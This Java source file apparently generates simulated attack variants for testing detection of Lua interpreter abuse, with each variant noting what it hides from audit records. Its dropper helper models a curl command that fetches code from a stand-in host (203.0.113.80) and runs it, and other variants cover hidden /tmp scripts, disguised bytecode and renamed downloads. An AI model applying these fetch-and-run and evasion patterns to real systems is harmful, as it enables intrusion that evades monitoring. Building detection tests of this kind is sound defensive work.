package perilune.scenarios.mutation;

import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.function.Function;
import perilune.scenarios.mutation.Attack.Form;
import perilune.scenarios.story.Deed;
import perilune.scenarios.story.Image;
import perilune.scenarios.story.Moment;
import perilune.scenarios.story.Story;

/** Other ways for the code to reach the interpreter. */
final class SourceMutations {

  private static final String NO_TEXT = "the code is in no record: only that the interpreter ran";
  private static final String BYTECODE = "\u001bLuaT\u0000\u0019\u0093";

  private SourceMutations() {}

  static List<Mutation> all() {
    return List.of(
        of("stdin", "the code comes by a pipe", NO_TEXT, Form.CODE, SourceMutations::stdin),
        of(
            "lua-init",
            "the code comes in LUA_INIT",
            "an environment is in no audit record: only the interpreter without arguments is",
            Form.CODE,
            a ->
                a.running(
                    a.image()
                        .withArguments(List.of(a.image().arguments().getFirst(), "-v"))
                        .with(a.image().traits().withVariable("LUA_INIT", a.code())))),
        of(
            "script",
            "the code is a hidden script in /tmp",
            NO_TEXT,
            Form.CODE,
            a -> script(a, "/tmp/.m.lua")),
        of(
            "script-split",
            "the code is two scripts, of which the second is loaded by the first",
            NO_TEXT,
            Form.CODE,
            SourceMutations::split),
        of(
            "script-shebang",
            "the code is a script that is run by its first line",
            NO_TEXT,
            Form.CODE,
            SourceMutations::shebang),
        of(
            "module",
            "the code is a module that -l loads",
            NO_TEXT,
            Form.CODE,
            SourceMutations::module),
        of(
            "bytecode",
            "the code is bytecode under another name",
            NO_TEXT,
            Form.CODE,
            SourceMutations::bytecode),
        of(
            "substitution",
            "the script is a descriptor",
            NO_TEXT,
            Form.CODE,
            a -> a.given("/dev/fd/63")),
        of(
            "script-other-folder",
            "the script lies in /var/tmp",
            "",
            Form.SCRIPT,
            a -> moved(a, "/var/tmp/.m.lua")),
        of(
            "script-cache-folder",
            "the script lies in a hidden folder of a home",
            "",
            Form.SCRIPT,
            a -> moved(a, "/home/" + a.person() + "/.cache/.m")),
        of(
            "script-no-ending",
            "the script's name has no ending",
            "",
            Form.SCRIPT,
            a -> moved(a, "/tmp/systemd-private-a1")),
        of(
            "script-linked",
            "the script is started through a link",
            "",
            Form.SCRIPT,
            SourceMutations::linked),
        of(
            "script-bytecode",
            "the script is bytecode",
            "",
            Form.SCRIPT,
            SourceMutations::asBytecode),
        of(
            "script-renamed",
            "the script is fetched under another name",
            "",
            Form.SCRIPT,
            SourceMutations::renamed));
  }

  private static Mutation of(
      String id, String about, String hides, Form form, Function<Attack, Story> change) {
    return new Mutation(
        id,
        about,
        false,
        hides,
        attack ->
            attack.form() == form
                ? Optional.of(change.apply(attack)).filter(s -> !s.equals(attack.story()))
                : Optional.empty());
  }

  private static Story stdin(Attack attack) {
    return attack.starting(
        attack.helper("feeder", "/usr/bin/cat", "cat", "/home/" + attack.person() + "/.m"),
        attack.start(words(attack, "-")),
        attack.does("feeder", new Deed.Exit(0)));
  }

  private static Image words(Attack attack, String... rest) {
    var all = new ArrayList<String>();
    all.add(attack.image().arguments().getFirst());
    all.addAll(List.of(rest));
    return attack.image().withArguments(all);
  }

  /** The file is written by a tool that copies it: the usual way from a foothold. */
  private static List<Moment> dropped(Attack attack, String path, String content) {
    return List.of(
        attack.helper("dropper", "/usr/bin/curl", "curl", "-so", path, "http://203.0.113.80/m"),
        attack.does("dropper", new Deed.Download("http://203.0.113.80/m", path)),
        attack.does("dropper", new Deed.Write(path, content)),
        attack.does("dropper", new Deed.Exit(0)));
  }

  private static Story after(Attack attack, List<Moment> before, Moment... then) {
    var all = new ArrayList<>(before);
    all.addAll(List.of(then));
    return attack.starting(all.toArray(Moment[]::new));
  }

  private static Story script(Attack attack, String path) {
    return after(attack, dropped(attack, path, attack.code()), attack.start(words(attack, path)));
  }

  private static Story split(Attack attack) {
    var all = new ArrayList<>(dropped(attack, "/tmp/.m1.lua", "dofile('/tmp/.m2.lua')"));
    all.add(
        attack.helper(
            "second", "/usr/bin/curl", "curl", "-so", "/tmp/.m2.lua", "http://203.0.113.80/m2"));
    all.add(attack.does("second", new Deed.Write("/tmp/.m2.lua", attack.code())));
    all.add(attack.does("second", new Deed.Exit(0)));
    return after(attack, all, attack.start(words(attack, "/tmp/.m1.lua")));
  }

  private static Story shebang(Attack attack) {
    var all = new ArrayList<>(dropped(attack, "/tmp/.m", "#!" + attack.image().path()));
    all.add(attack.helper("chmod", "/usr/bin/chmod", "chmod", "+x", "/tmp/.m"));
    all.add(attack.does("chmod", new Deed.Chmod("/tmp/.m", 0755)));
    Image image =
        attack
            .image()
            .withArguments(List.of(attack.image().path(), "/tmp/.m"))
            .with(attack.image().traits().startedByScript("/tmp/.m"));
    return after(attack, all, attack.start(image));
  }

  private static Story module(Attack attack) {
    Image image =
        words(attack, "-l", "m")
            .with(attack.image().traits().withVariable("LUA_PATH", "/tmp/?.lua"));
    return after(attack, dropped(attack, "/tmp/m.lua", attack.code()), attack.start(image));
  }

  private static Story bytecode(Attack attack) {
    return after(
        attack,
        dropped(attack, "/tmp/.cache.dat", BYTECODE),
        attack.start(words(attack, "/tmp/.cache.dat")));
  }

  /** Gives the story with one path in the place of another, wherever it stands. */
  private static Story moved(Attack attack, String to) {
    String from = attack.script();
    return new Story(
        attack.story().moments().stream().map(moment -> moved(moment, from, to)).toList());
  }

  private static Moment moved(Moment moment, String from, String to) {
    Deed deed =
        switch (moment.deed()) {
          case Deed.Write(var path, var content) when path.equals(from) ->
              new Deed.Write(to, content);
          case Deed.Delete(var path) when path.equals(from) -> new Deed.Delete(to);
          case Deed.Chmod(var path, var mode) when path.equals(from) -> new Deed.Chmod(to, mode);
          case Deed.Start(var by, var image) -> new Deed.Start(by, moved(image, from, to));
          default -> moment.deed();
        };
    return moment.doing(deed);
  }

  private static Image moved(Image image, String from, String to) {
    return image.withArguments(
        image.arguments().stream().map(word -> word.replace(from, to)).toList());
  }

  private static Story linked(Attack attack) {
    return attack.starting(
        attack.helper("ln", "/usr/bin/ln", "ln", "-s", attack.script(), "/tmp/.l"),
        attack.does("ln", new Deed.Link(attack.script(), "/tmp/.l", true)),
        attack.does("ln", new Deed.Exit(0)),
        attack.start(words(attack, "/tmp/.l")));
  }

  private static Story asBytecode(Attack attack) {
    return new Story(
        attack.story().moments().stream()
            .map(moment ->
                moment.deed() instanceof Deed.Write(var path, var _) && path.equals(attack.script())
                    ? moment.doing(new Deed.Write(path, BYTECODE))
                    : moment)
            .toList());
  }

  private static Story renamed(Attack attack) {
    boolean written =
        attack.story().moments().stream()
            .anyMatch(
                m -> m.deed() instanceof Deed.Write(var p, var _) && p.equals(attack.script()));
    if (!written) {
      return attack.story();
    }
    Story fetched = moved(attack, "/tmp/logo.png");
    Moment start = attack.start(attack.image());
    var all = new ArrayList<Moment>();
    for (int i = 0; i < fetched.moments().size(); i++) {
      if (i != attack.index()) {
        all.add(i < attack.index() ? fetched.moments().get(i) : attack.story().moments().get(i));
        continue;
      }
      all.add(attack.helper("mv", "/usr/bin/mv", "mv", "/tmp/logo.png", attack.script()));
      all.add(attack.does("mv", new Deed.Rename("/tmp/logo.png", attack.script())));
      all.add(attack.does("mv", new Deed.Exit(0)));
      all.add(start);
    }
    return new Story(all);
  }
}
